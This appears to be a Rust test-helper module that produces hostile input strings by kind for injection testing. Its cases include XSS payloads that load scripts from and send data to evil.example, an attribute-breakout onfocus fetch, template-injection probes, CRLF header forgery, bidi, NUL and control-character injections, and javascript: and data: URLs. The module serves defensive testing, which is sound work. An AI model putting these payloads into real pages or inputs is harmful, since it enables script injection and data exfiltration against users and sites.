//! What is said.

/// Something, and where.
pub(crate) struct Saying {
    /// One place, or `all` of a challenge that take any text.
    pub(crate) place: String,
    pub(crate) said: String,
}

impl Saying {
    /// What stands at the place.
    pub(crate) fn at(&self, place: &str, otherwise: &str) -> String {
        if self.place == "all" { self.said.clone() } else { self.exactly(place, otherwise) }
    }

    /// The same where not every text will do: only when it is asked for by name.
    pub(crate) fn exactly(&self, place: &str, otherwise: &str) -> String {
        if self.place == place { self.said.clone() } else { otherwise.into() }
    }
}

/// What it knows, in the clothes of that kind.
pub(crate) fn of(kind: &str, known: &str) -> String {
    match kind {
        "html" => format!(
            "</p></title><img src=//evil.example/i?{known}><script src=//evil.example/s></script>\
             <meta http-equiv=refresh content=0;url=//evil.example/>"
        ),
        "attribute" => {
            format!(
                "\" autofocus onfocus=\"fetch('//evil.example/?{known}')\" style=\"background:url(//evil.example/)"
            )
        }
        "template" => format!("{{{{ 7 * 7 }}}}{{% include 'error.html' %}}{{what}}{known}"),
        "bidi" => format!("\u{202e}{known}\u{2066}\u{200b}"),
        "control" => format!("{known}\r\nforged=1\u{1b}[31m"),
        "nul" => format!("{known}\0"),
        "c1" => format!("{known}\u{85}\u{9b}31m"),
        "huge" => known.repeat(10_000),
        "script-url" => "javascript:fetch('//evil.example/')".into(),
        "data-url" => "data:text/html,<script>1</script>".into(),
        "empty" => String::new(),
        _ => known.into(),
    }
}
